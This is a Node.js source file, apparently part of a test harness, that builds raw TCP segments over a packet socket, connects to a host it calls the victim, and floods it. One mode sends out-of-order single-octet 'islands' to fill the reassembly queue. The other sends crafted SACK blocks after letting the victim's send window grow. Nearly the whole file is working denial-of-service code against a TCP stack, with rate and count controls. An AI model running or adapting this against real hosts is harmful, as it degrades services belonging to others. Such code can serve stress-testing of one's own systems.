// A TCP peer without a stack, from the kernel's side (packet(7)), that makes one connection to the victim and then sends it `count` segments
// meant to cost more than they are worth, about `rate` a second, from the command `go` on. Options: { name, kind, count, rate?, limit?, to,
// source, destination, port, seed? } as storm.mjs; `source` is a host that is nobody else's. Kinds: `islands`: single octets with gaps of one
// between them, in no order; `sacks`: the victim sends, and gets acknowledgments with four blocks each, of single octets and of segments.
import { networkInterfaces } from "node:os";
import koffi from "koffi";
import { onCommand, options, tell } from "./protocol.mjs";

const {
  name,
  kind,
  count,
  rate = 15_000,
  limit = 60_000,
  to,
  source,
  destination,
  port,
  seed = 1,
} = options();

const library = koffi.load(null);
const socket = library.func("int socket(int, int, int)");
const bind = library.func("int bind(int, void*, uint32_t)");
const send = library.func("intptr_t send(int, void*, size_t, int)");
const recv = library.func("intptr_t recv(int, _Out_ uint8_t*, size_t, int)");
const interfaceNumber = library.func("uint32_t if_nametoindex(const char*)");

const [AF_PACKET, SOCK_RAW, SOCK_NONBLOCK, ETH_P_IP] = [17, 3, 0o4000, 0x0800];
/** The largest MSS of a peer that wants many segments, and a window of a gibibyte. */
const [MSS, WINDOW_SHIFT] = [536, 14];
/** Distinct islands: their octets and gaps fit a window of 65 535. */
const ISLANDS = 30_000;
/** Octets acknowledged in order, for a congestion window to grow, before the victim gets no more than `sacks`. */
const GROWTH = 1 << 20;
/** Milliseconds without anything new after which everything that the victim may send is under way. */
const QUIET = 100;
const [FIN, SYN, PSH, ACK] = [1, 2, 8, 16];

const swapped = ((ETH_P_IP & 255) << 8) | (ETH_P_IP >> 8);
const descriptor = socket(AF_PACKET, SOCK_RAW | SOCK_NONBLOCK, swapped);
const link = new Uint8Array(20);
new Uint16Array(link.buffer).set([AF_PACKET, swapped]);
new Int32Array(link.buffer)[1] = interfaceNumber(name);
if (descriptor < 0 || bind(descriptor, link, 20) < 0) throw new Error(`packet socket: ${koffi.errno()}`);

let state = seed | 0 || 1;
/** Thirty-two bits of xorshift. */
function random() {
  state ^= state << 13;
  state ^= state >>> 17;
  state ^= state << 5;
  return state >>> 0;
}

const frame = new Uint8Array(1514);
const view = new DataView(frame.buffer);
const input = new Uint8Array(65_536);
const inputView = new DataView(input.buffer);
const octetsOf = (text, radix, separator) =>
  text.split(separator).map((part) => Number.parseInt(part, radix));
const ours = octetsOf(destination, 10, ".");
const theirs = octetsOf(source, 10, ".");
frame.set([...octetsOf(to, 16, ":"), ...octetsOf(networkInterfaces()[name][0].mac, 16, ":"), 8, 0, 0x45, 0]);
frame.set([0x40, 0, 64, 6, 0, 0, ...theirs, ...ours], 20);
const localPort = 1024 + (random() % 60_000);
const first = random();
let sequence = first;
/** What the victim sent in order, and where it will go on. */
let acknowledged = 0;
let highest = 0;

/** The Internet checksum of `frame[from, end)`. */
function checksum(from, end, start) {
  let sum = start;
  for (let at = from; at < end; at += 2) sum += at + 1 < end ? view.getUint16(at) : frame[at] << 8;
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >>> 16);
  return ~sum & 0xffff;
}

/** A segment with `optionOctets` of options, which are at 54 already, and one octet of text or none. @returns the frame's length */
function segment(flags, at, optionOctets, text) {
  const octets = 20 + optionOctets + text;
  view.setUint16(16, 20 + octets);
  view.setUint16(24, 0);
  view.setUint16(24, checksum(14, 34, 0));
  view.setUint16(34, localPort);
  view.setUint16(36, port);
  view.setUint32(38, at >>> 0);
  view.setUint32(42, acknowledged >>> 0);
  frame.set([((20 + optionOctets) / 4) << 4, flags, 0xff, 0xff, 0, 0, 0, 0], 46);
  if (text > 0) frame[54 + optionOctets] = 0x2e;
  let pseudo = 6 + octets;
  for (const [a, b, c, d] of [theirs, ours]) pseudo += (a << 8) + b + (c << 8) + d;
  view.setUint16(50, checksum(34, 34 + octets, pseudo));
  return 34 + octets;
}

function island(i) {
  return segment(ACK | PSH, sequence + 1 + 2 * ((i * 7919) % ISLANDS), 0, 1);
}

function sack() {
  const flight = (highest - acknowledged) | 0;
  frame.set([1, 1, 5, 34], 54);
  for (let block = 0; block < 4; block++) {
    // Three single octets, and every second segment in its turn.
    const whole = block === 3;
    const odd = MSS * (1 + 2 * (random() % Math.max(1, Math.floor(flight / MSS / 2 - 1))));
    const left = acknowledged + (whole ? odd : 1 + (random() % Math.max(1, flight - 2)));
    view.setUint32(58 + 8 * block, left >>> 0);
    view.setUint32(62 + 8 * block, (left + (whole ? MSS : 1)) >>> 0);
  }
  return segment(ACK, sequence, 36, 0);
}

/** Hears the next segment of the victim for this connection. @returns its flags, sequence number and octets of text, or null */
function heard() {
  for (;;) {
    const octets = recv(descriptor, input, input.length, 0);
    if (octets < 0) return null;
    if (octets < 54 || input[23] !== 6 || inputView.getUint16(36) !== localPort) continue;
    const text = inputView.getUint16(16) - 20 - (input[46] >> 4) * 4;
    return { flags: input[47], sequence: inputView.getUint32(38), text };
  }
}

const pause = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds));

async function connect() {
  frame.set([2, 4, MSS >> 8, MSS & 255, 1, 1, 4, 2, 1, 3, 3, WINDOW_SHIFT], 54);
  send(descriptor, frame, segment(SYN, sequence, 12, 0), 0);
  for (;;) {
    const answer = heard();
    if (answer !== null && (answer.flags & (SYN | ACK)) === (SYN | ACK)) {
      acknowledged = (answer.sequence + 1) | 0;
      highest = acknowledged;
      sequence = (first + 1) | 0;
      send(descriptor, frame, segment(ACK, sequence, 0, 0), 0);
      return;
    }
    await pause(1);
  }
}

/** Lets the victim's window grow, and then have all of it under way. */
async function draw() {
  const start = acknowledged;
  let newsAt = performance.now();
  while (performance.now() - newsAt < QUIET) {
    for (let got = heard(); got !== null; got = heard()) {
      const end = (got.sequence + got.text + (got.flags & FIN)) | 0;
      if (((end - highest) | 0) > 0) {
        highest = end;
        newsAt = performance.now();
      }
      if ((got.sequence | 0) !== acknowledged || ((acknowledged - start) | 0) >= GROWTH) continue;
      acknowledged = end;
      send(descriptor, frame, segment(ACK, sequence, 0, 0), 0);
    }
    await pause(1);
  }
}

const make = kind === "islands" ? island : sack;
let began = 0;
let turnedAt = 0;
let sent = 0;

/** Segments for the time since the last turn, but no more than of 10 ms: a late turn makes up for nothing. */
function turn() {
  const now = performance.now();
  const due = Math.min(count, sent + Math.ceil((Math.min(now - turnedAt, 10) * rate) / 1000));
  turnedAt = now;
  while (sent < due && send(descriptor, frame, make(sent), 0) >= 0) sent++;
  if (sent < count && now - began < limit) setTimeout(turn, 1);
  else tell("done", { sent, milliseconds: performance.now() - began });
}

onCommand((command) => {
  if (command !== "go") return;
  began = performance.now();
  turnedAt = began;
  turn();
});
await connect();
if (kind === "sacks") await draw();
tell("ready", { flight: (highest - acknowledged) | 0 });
